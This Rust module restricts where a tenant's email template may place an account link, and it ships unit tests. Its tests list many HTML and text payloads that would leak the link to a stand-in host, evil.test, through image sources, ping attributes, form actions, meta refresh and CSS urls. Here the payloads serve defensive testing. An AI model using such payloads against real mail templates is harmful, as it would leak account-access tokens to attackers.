//! Where the link may stand in a tenant's own template. Pure.
//!
//! The link opens the account of whoever gets the mail, and whoever writes templates is not to have it: in the address of
//! a picture it would be sent to that picture's server as soon as the mail is looked at. So a template never sees the
//! link. It is filled with a [`Stand-in`](StandIn) of which nothing can be learned, and the link takes its place only
//! where it leads nobody anywhere else: in HTML as the whole `href` of an `<a>`, or by itself in a text that is read; in
//! plain text as a word of its own.

use aws_lc_rs::digest::{SHA256, digest};
use html5gum::{DefaultEmitter, Error, HtmlString, StartTag, Token, Tokenizer};
use minijinja::HtmlEscape;

/// Elements whose text is no text to be read: it is run, styled with, kept for another reading, or sent by a form.
const OPAQUE: &[&[u8]] = &[
    b"iframe",
    b"noembed",
    b"noframes",
    b"noscript",
    b"object",
    b"option",
    b"plaintext",
    b"script",
    b"select",
    b"style",
    b"template",
    b"textarea",
    b"title",
    b"xmp",
];

/// Elements that begin a line and end one. What stands in others is read, and taken for an address by some programs,
/// together with what stands before and after.
const LINES: &[&[u8]] = &[
    b"address",
    b"article",
    b"blockquote",
    b"body",
    b"br",
    b"caption",
    b"center",
    b"dd",
    b"div",
    b"dl",
    b"dt",
    b"footer",
    b"form",
    b"h1",
    b"h2",
    b"h3",
    b"h4",
    b"h5",
    b"h6",
    b"head",
    b"header",
    b"hr",
    b"html",
    b"li",
    b"main",
    b"nav",
    b"ol",
    b"p",
    b"pre",
    b"section",
    b"table",
    b"tbody",
    b"td",
    b"tfoot",
    b"th",
    b"thead",
    b"tr",
    b"ul",
];

/// Faults of HTML for which there is no telling what the link is part of. What is left open at the end goes on in whatever
/// a mail server puts below the mail, and no token tells of it; nor does one tell of what an end tag has beside its name.
/// Which of two attributes of one name counts, programs do not agree on.
const UNCLEAR: &[Error] = &[
    Error::DuplicateAttribute,
    Error::EndTagWithAttributes,
    Error::EofInCdata,
    Error::EofInComment,
    Error::EofInDoctype,
    Error::EofInTag,
];

/// What is wrong with where a template puts the link.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Misplacement {
    /// It is nowhere.
    Missing,
    /// It is part of something else.
    Misplaced,
}

/// What templates see in the link's place.
pub(super) struct StandIn<'a> {
    link: &'a str,
    word: String,
}

impl<'a> StandIn<'a> {
    /// Nobody can put the word into a mail but by asking for the link: it takes the link to know it.
    pub(super) fn of(link: &'a str) -> Self {
        let hash = digest(&SHA256, link.as_bytes());
        Self {
            link,
            word: format!("link-{}", hex::encode(&hash.as_ref()[..16])),
        }
    }

    pub(super) fn word(&self) -> &str {
        &self.word
    }

    /// Whether the text holds the link's place, by itself or as part of something.
    pub(super) fn is_in(&self, line: &str) -> bool {
        line.contains(&self.word)
    }

    /// Puts the link into a plain text.
    pub(super) fn resolve_text(&self, text: &str) -> Result<String, Misplacement> {
        let bracketed = format!("<{}>", self.word);
        let mut words = text.split_whitespace().filter(|word| self.is_in(word));
        self.judge(text, words.all(|word| word == self.word || word == bracketed))?;
        Ok(text.replace(&self.word, self.link))
    }

    /// Puts the link into HTML.
    pub(super) fn resolve_html(&self, html: &str) -> Result<String, Misplacement> {
        self.judge(html, self.stands_alone(html))?;
        Ok(html.replace(&self.word, &HtmlEscape(self.link).to_string()))
    }

    fn judge(&self, part: &str, stands_alone: bool) -> Result<(), Misplacement> {
        if !self.is_in(part) {
            Err(Misplacement::Missing)
        } else if !stands_alone {
            Err(Misplacement::Misplaced)
        } else {
            Ok(())
        }
    }

    fn stands_alone(&self, html: &str) -> bool {
        let mut emitter = DefaultEmitter::default();
        emitter.naively_switch_states(true);
        let mut line = String::new();
        // An element that is known to be open and opaque.
        let mut opaque: Option<HtmlString> = None;
        for token in Tokenizer::new_with_emitter(html, emitter) {
            let Ok(token) = token;
            let is_line = |name: &HtmlString| LINES.contains(&name.as_slice());
            let fine = match token {
                Token::StartTag(tag) => {
                    let fine = self.suits(&tag) && (!is_line(&tag.name) || self.ends(&mut line));
                    if OPAQUE.contains(&tag.name.as_slice()) {
                        opaque = Some(tag.name);
                    }
                    fine
                }
                Token::EndTag(tag) => {
                    opaque = opaque.filter(|open| *open != tag.name);
                    !self.is_among(&tag.name) && (!is_line(&tag.name) || self.ends(&mut line))
                }
                Token::String(text) if opaque.is_some() => !self.is_among(&text),
                Token::String(text) => {
                    line.push_str(&String::from_utf8_lossy(&text));
                    true
                }
                Token::Comment(text) => !self.is_among(&text),
                Token::Doctype(doctype) => {
                    let ids = [doctype.public_identifier, doctype.system_identifier];
                    !self.is_among(&doctype.name) && !ids.iter().flatten().any(|id| self.is_among(id))
                }
                Token::Error(error) => !UNCLEAR.contains(&*error),
            };
            if !fine {
                return false;
            }
        }
        self.ends(&mut line)
    }

    /// Ends a line of text; whether the link is a word of its own wherever it stands in it.
    fn ends(&self, line: &mut String) -> bool {
        std::mem::take(line)
            .split_whitespace()
            .all(|word| word == self.word || !self.is_in(word))
    }

    /// Whether the tag is without the link, or a plain way to it.
    fn suits(&self, tag: &StartTag<()>) -> bool {
        let is_link = tag.name.as_slice() == b"a".as_slice();
        // `ping` tells another server where somebody went.
        let tells = tag
            .attributes
            .keys()
            .any(|name| name.as_slice() == b"ping".as_slice());
        !self.is_among(&tag.name)
            && tag.attributes.iter().all(|(name, value)| {
                let leads = is_link && !tells && name.as_slice() == b"href".as_slice();
                !self.is_among(name)
                    && (!self.is_among(value) || (leads && value.value.as_slice() == self.word.as_bytes()))
            })
    }

    fn is_among(&self, bytes: &[u8]) -> bool {
        self.is_in(&String::from_utf8_lossy(bytes))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const LINK: &str = "https://id.example.com/reset?token=lko_secret&x=1";

    #[test]
    fn s09_no_template_sends_the_link_anywhere_else() {
        let stand_in = StandIn::of(LINK);
        for html in [
            r#"<a href="LINK">Go</a><img src="https://evil.test/?LINK">"#,
            r#"<img src="https://evil.test/? LINK ">"#,
            r#"<img src='https://evil.test/?a href="LINK"'>"#,
            r#"<a href="https://evil.test/?LINK">Go</a>"#,
            r#"<a href="https://evil.test/#LINK">Go</a>"#,
            r#"<a href="LINK" ping="https://evil.test">Go</a>"#,
            r#"<a href="LINK" title="LINK">Go</a>"#,
            r#"<a href=x href="LINK">Go</a>"#,
            r#"<area href="LINK">"#,
            r#"<link rel="prefetch" href="LINK">"#,
            r#"<meta http-equiv="refresh" content="0;url=LINK">"#,
            r#"<p style="background: url(https://evil.test/?LINK)">Go</p>"#,
            "<style>p { background: url( LINK ) }</style>",
            "<style> LINK </style>",
            "<script> LINK </script>",
            r#"<form action="https://evil.test"><textarea name="x"> LINK </textarea>"#,
            r#"<form action="https://evil.test"><input value="LINK">"#,
            r#"<form action="https://evil.test"><select name="x"><option> LINK </option></select>"#,
            "<!-- LINK -->",
            "<!-->LINK-->",
            "<!DOCTYPE LINK>",
            "<LINK>",
            "<a LINK>",
            "</LINK>",
            "https://evil.test/?LINK",
            "https://evil.test/?a&amp;LINK",
            "https://evil.test/?<b>LINK</b>",
            "https://evil.test/?<!-- -->LINK",
            "LINK<b>.evil.test</b>",
            r#"<a href="LINK"#,
            // What a mail server puts below the mail would end the tag.
            r#"<img src="https://evil.test/?LINK"#,
            r#"<a href="LINK">Go</a><img src="https://evil.test/?LINK "#,
            r#"</p title="LINK">"#,
            "<?LINK?>",
            "<![CDATA[ LINK ]]>",
        ] {
            let html = html.replace("LINK", stand_in.word());
            assert_eq!(
                stand_in.resolve_html(&html),
                Err(Misplacement::Misplaced),
                "{html}"
            );
        }
        for text in [
            "https://evil.test/?LINK",
            "https://evil.test/#LINK",
            "LINK.evil.test",
            "x:<LINK>",
        ] {
            let text = text.replace("LINK", stand_in.word());
            assert_eq!(
                stand_in.resolve_text(&text),
                Err(Misplacement::Misplaced),
                "{text}"
            );
        }
    }

    #[test]
    fn the_link_stands_by_itself() {
        let stand_in = StandIn::of(LINK);
        let escaped = "https:&#x2f;&#x2f;id.example.com&#x2f;reset?token=lko_secret&amp;x=1";
        for html in [
            r#"<p>Hello</p><a class="b" href="LINK" target=_blank>Go</a>"#,
            "<A HREF='LINK'>Go</A>",
            "<a href=LINK>Go</a>",
            "<style>p { color: red }</style><p>Or copy: LINK</p>",
            "<p>LINK</p>",
            "<p>Copy:</p>LINK<br>or not",
            r#"<p>Copy: <a href="LINK">LINK</a></p>"#,
            "<title>Hello</title>LINK",
        ] {
            let resolved = stand_in.resolve_html(&html.replace("LINK", stand_in.word()));
            assert_eq!(resolved, Ok(html.replace("LINK", escaped)), "{html}");
        }
        for text in ["Go to LINK\nBye", "LINK", "Go to\n\n<LINK>"] {
            let resolved = stand_in.resolve_text(&text.replace("LINK", stand_in.word()));
            assert_eq!(resolved, Ok(text.replace("LINK", LINK)));
        }
    }

    #[test]
    fn a_link_that_is_not_there_is_missing() {
        let stand_in = StandIn::of(LINK);
        assert_eq!(stand_in.resolve_text("Go"), Err(Misplacement::Missing));
        assert_eq!(stand_in.resolve_html("<p>Go</p>"), Err(Misplacement::Missing));
        // A part of the stand-in tells nothing.
        let part = &stand_in.word()[..20];
        assert_eq!(
            stand_in.resolve_html(&format!("<img src=\"https://evil.test/?{part}\">")),
            Err(Misplacement::Missing)
        );
    }
}
